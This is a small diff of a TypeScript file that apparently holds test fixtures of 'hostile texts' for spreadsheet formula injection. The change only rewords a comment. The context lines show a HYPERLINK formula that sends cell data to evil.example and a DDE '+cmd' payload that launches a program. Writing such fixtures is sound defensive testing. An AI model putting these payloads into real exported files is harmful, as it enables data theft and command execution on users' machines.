@@ -1,4 +1,4 @@
-/** Texts that do harm where a format is written carelessly, by what they aim at. */
+/** Texts that break a carelessly written format, by their target. */
 export const hostileTexts: Readonly<Record<string, string>> = {
   'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Read more")',
   'a formula by plus': "+cmd|' /C calc'!A0",
